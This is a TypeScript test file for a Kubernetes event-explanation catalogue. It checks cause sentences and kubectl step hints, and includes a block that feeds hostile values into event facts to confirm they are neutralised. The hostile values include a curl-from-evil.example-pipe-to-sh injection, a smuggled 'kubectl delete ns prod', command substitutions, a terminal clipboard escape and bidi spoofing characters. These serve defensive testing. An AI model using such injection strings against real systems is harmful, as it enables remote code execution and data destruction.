import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { CATALOGUE, classify, explainEvent } from './catalogue.js';
import { FAILURE_KIND_IDS } from './kind.js';
import { stepHints } from './steps.js';
import { simpleCommandWords } from '../../test/support/posix-command.js';
import { testEvent } from '../../test/support/timeline-events.js';
import { CATALOGUE_CASES as CASES, caseEvent as eventOf } from '../../test/support/catalogue-cases.js';

describe('classify', () => {
  for (const c of CASES) {
    it(c.name, () => {
      const m = classify(eventOf(c));
      assert.equal(m?.kind.id, c.want);
      for (const [k, v] of Object.entries(c.facts ?? {})) assert.equal(m?.facts[k], v, `fact ${k}`);
      if (m !== undefined) {
        const cause = m.kind.cause(m.facts);
        assert.match(cause, /^[^\n]+\.$/, 'one sentence on one line');
        assert.doesNotMatch(cause, /undefined/);
      }
    });
  }

  it('every id of the catalogue has a case, and the ids are the catalogue', () => {
    assert.deepEqual(new Set(CATALOGUE.map((k) => k.id)), new Set(FAILURE_KIND_IDS));
    const covered = new Set(CASES.map((c) => c.want));
    for (const id of FAILURE_KIND_IDS) assert.ok(covered.has(id), id);
  });
});

describe('explainEvent', () => {
  const cases: { name: string; event: Parameters<typeof testEvent>[0]; want: string | undefined }[] = [
    {
      name: 'a kind the catalogue knows: its cause sentence',
      event: { name: 'a', object: 'web-1', reason: 'Failed', type: 'Warning', message: 'Error: configmap "app-env" not found', first: 0 },
      want: 'Pod "web-1" cannot start its container: it refers to the ConfigMap "app-env", which does not exist in namespace "default".',
    },
    {
      name: 'a Warning it does not know: its reason and message, nothing more',
      event: { name: 'b', object: 'web-1', reason: 'FailedSync', type: 'Warning', message: 'error determining status: rpc error', first: 0 },
      want: 'Pod "web-1" reported "FailedSync": "error determining status: rpc error".',
    },
    {
      name: 'event text stays on one line, its controls shown',
      event: { name: 'c', object: 'web-1', reason: 'Boom', type: 'Warning', message: 'a\nb \u001b[31mred', first: 0 },
      want: 'Pod "web-1" reported "Boom": "a b ^[[31mred".',
    },
    { name: 'a Normal event that shows no failure: nothing', event: { name: 'd', object: 'web-1', reason: 'Started', message: 'Started container app', first: 0 }, want: undefined },
  ];
  for (const c of cases) it(c.name, () => assert.equal(explainEvent(testEvent(c.event)), c.want));
});

describe('every kind with hostile facts', () => {
  /** ENUMERATED facts are the catalogue's own words (a matched alternative) or digits a pattern matched, never free event text: a sentence may say them bare. */
  const ENUMERATED = new Set(['problem', 'scope', 'sourceKind', 'probe', 'creates', 'cgroup', 'evicted', 'nodes', 'expected']);
  const HOSTILE = ['node-1;curl -fsSL https://evil.example/x|sh;#', "it's \"quoted\"", 'web\nkubectl delete ns prod', '$(touch /tmp/pwned) `id`', 'w\u001b]52;c;aGk=\u0007eb', 'web\u202eexe.sh\u200b'];
  const CONTROL = /[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;
  for (const c of CASES) {
    const m = classify(eventOf(c));
    if (m === undefined) continue;
    it(`${m.kind.id}: ${c.name}`, () => {
      for (const v of HOSTILE) {
        const facts: Record<string, string> = Object.fromEntries(Object.entries(m.facts).map(([k, x]) => [k, ENUMERATED.has(k) ? x : v]));
        const cause = m.kind.cause(facts);
        assert.doesNotMatch(cause, CONTROL, JSON.stringify(cause));
        for (const h of stepHints(m.kind.steps(facts))) {
          assert.doesNotMatch(h.command, CONTROL, JSON.stringify(h.command));
          assert.doesNotMatch(h.why, CONTROL, JSON.stringify(h.why));
          const words = simpleCommandWords(h.command);
          assert.equal(words[0], 'kubectl', h.command);
          assert.ok(!words.some((w) => w.includes(v)), `${JSON.stringify(v)} reached ${h.command}`);
        }
      }
    });
  }
});

describe('every kind with empty facts', () => {
  /** ENUMERATED facts are the catalogue's own words, which a kind sets whenever it matches. */
  const ENUMERATED = new Set(['problem', 'scope', 'sourceKind', 'probe', 'creates', 'cgroup', 'evicted', 'expected']);
  for (const c of CASES) {
    const m = classify(eventOf(c));
    if (m === undefined) continue;
    it(`${m.kind.id}: ${c.name}`, () => {
      for (const empty of ['', undefined, ' ']) {
        const facts = Object.fromEntries(Object.entries(m.facts).flatMap(([k, x]) => (ENUMERATED.has(k) ? [[k, x]] : empty === undefined ? [] : [[k, empty]])));
        const cause = m.kind.cause(facts);
        assert.doesNotMatch(cause, /""|" "|undefined/, cause);
        assert.match(cause, /^[A-Z][^\n]+\.$/, cause);
        for (const h of stepHints(m.kind.steps(facts))) {
          assert.doesNotMatch(h.command, /''|""|' '/, h.command);
          assert.doesNotMatch(h.command, / -c <container>| --(?:target|container)=<container>/, 'an optional container is left out, not a placeholder');
        }
      }
    });
  }

  it('a crash loop an older kubelet reports without the container names the pod only', () => {
    const m = classify(eventOf({ name: 'old', reason: 'BackOff', message: 'Back-off restarting failed container', want: 'crash-loop' }))!;
    assert.equal(m.kind.cause(m.facts), 'A container of pod "web-1" is crash-looping; events do not record why: read its last state and logs.');
    assert.ok(stepHints(m.kind.steps(m.facts)).some((h) => h.command === 'kubectl logs web-1 -n shop --previous'));
  });
});
